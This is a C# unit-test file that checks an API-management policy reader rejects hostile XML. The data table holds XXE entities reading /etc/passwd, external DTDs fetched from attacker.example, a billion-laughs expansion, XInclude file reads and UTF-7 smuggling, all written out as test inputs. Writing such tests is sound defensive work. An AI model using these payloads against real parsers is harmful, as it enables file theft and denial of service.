using Bascule.Connectors.Platforms.ApiManagement.Gate;
using Bascule.Connectors.Platforms.ApiManagement.Gate.Policies;

namespace Bascule.Connectors.Tests.Platforms.ApiManagement.Gate.Policies;

public sealed class PolicyReaderTests
{
    public static TheoryData<string, string> Hostile { get; } =
        new()
        {
            { "a document type", "<!DOCTYPE policies><policies />" },
            {
                "an external entity",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><policies>&b;</policies>"
            },
            {
                "a parameter entity",
                "<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://attacker.example/b.dtd\"> %b;]><policies />"
            },
            { "an external document type", "<!DOCTYPE policies SYSTEM \"http://attacker.example/a.dtd\"><policies />" },
            {
                "a billion laughs",
                "<!DOCTYPE a [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><policies>&c;</policies>"
            },
            { "an entity of nobody", "<policies>&nbsp;</policies>" },
            {
                "XInclude",
                "<policies><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" /></policies>"
            },
            { "a namespace", "<policies xmlns=\"urn:a\" />" },
            { "a prefix", "<p:policies xmlns:p=\"\" />" },
            { "an unknown prefix", "<policies><a:send-request /></policies>" },
            { "a prefix of XML's own", "<policies xml:space=\"preserve\" />" },
            { "an instruction", "<policies><?xml-stylesheet href=\"a.xsl\"?></policies>" },
            { "UTF-7", "<?xml version=\"1.0\" encoding=\"utf-7\"?><policies>+ADw-send-request+AD4-</policies>" },
            { "UTF-16", "<?xml version=\"1.0\" encoding=\"utf-16\"?><policies />" },
            { "UTF-7 without word", "+ADwAIQ-DOCTYPE a+AD4-<policies />" },
            { "EBCDIC", "<?xml version=\"1.0\" encoding=\"IBM037\"?><policies />" },
            { "two tops", "<policies /><policies />" },
            { "text after", "<policies />x" },
            { "an attribute twice", "<policies a=\"1\" a=\"2\" />" },
            { "nothing", "" },
        };

    [Theory]
    [MemberData(nameof(Hostile))]
    [Trait("Threat", "T126")]
    public async Task NothingIsReadBeyondTheTextItself(string name, string text)
    {
        var found = await GateStage.CheckAsync(new ApimRules(), ("products/shop/policy.xml", text));

        found.Single().ShouldStartWith("products/shop/policy.xml:1 Xml:", customMessage: name);
    }

    [Theory]
    [InlineData("levels", 101, 0)]
    [InlineData("attributes", 1, 101)]
    [Trait("Threat", "T126")]
    public async Task NothingIsReadWithoutEnd(string says, int levels, int attributes)
    {
        var many = string.Concat(Enumerable.Range(0, attributes).Select(at => $" a{at}=\"\""));
        var text =
            $"{string.Concat(Enumerable.Repeat("<a>", levels))}<b{many} />{string.Concat(Enumerable.Repeat("</a>", levels))}";

        (await GateStage.CheckAsync(new ApimRules(), ("products/shop/policy.xml", text))).Single().ShouldContain(says);
    }

    [Fact]
    [Trait("Threat", "T126")]
    public async Task ALongPolicyIsNotRead()
    {
        var text = $"<policies>{new string(' ', PolicyReader.MaxCharacters)}</policies>";

        (await GateStage.CheckAsync(new ApimRules(), ("products/shop/policy.xml", text)))
            .Single()
            .ShouldStartWith("products/shop/policy.xml:1 Size:");
    }

    /// <summary>What is sent is read once or twice, by whom nobody can say: it must be the same to both.</summary>
    [Theory]
    [InlineData("<set-body>&amp;lt;send-request /&amp;gt;</set-body>", "'&amp;lt;', which means something else")]
    [InlineData("<set-body>&amp;#60;</set-body>", "'&amp;#', which means something else")]
    [InlineData("<set-body>&amp;amp;lt;</set-body>", "'&amp;amp;', which means something else")]
    [InlineData("<set-body>&#60;send-request</set-body>", "'&#6', a character by its number")]
    [InlineData("<set-body>&#x3c;</set-body>", "'&#x', a character by its number")]
    [InlineData("<set-header name=\"a\"><value>&#64;(1)</value></set-header>", "'&#6', a character by its number")]
    [Trait("Threat", "T128")]
    public async Task EscapesAreTakenOutOnce(string piece, string says) =>
        (await GateStage.FindAsync(piece)).Single().ShouldStartWith($"{GateStage.Policy}:4 Xml: has {says}");

    [Theory]
    [InlineData("<set-body>a &lt; b &amp;&amp; c &amp; d</set-body>")]
    [InlineData("<choose><when condition='@(context.Api.Id == \"a\" &amp;&amp; 1 &lt; 2)' /></choose>")]
    [InlineData("<set-body>{\"a\": \"b\"}</set-body>")]
    [Trait("Threat", "T128")]
    public async Task OrdinaryEscapesAreFine(string piece) => (await GateStage.FindAsync(piece)).ShouldBeEmpty();

    [Theory]
    [InlineData("<choose><when condition=\"@(a == \"b\")\" /></choose>")]
    [InlineData("<choose><when condition=\"@(a < b)\" /></choose>")]
    [InlineData("<set-body>@(a && b)</set-body>")]
    public async Task LooserTextIsRefusedWithARemedy(string piece) =>
        (await GateStage.FindAsync(piece)).Single().ShouldContain("write &lt; and &amp; in expressions");
}
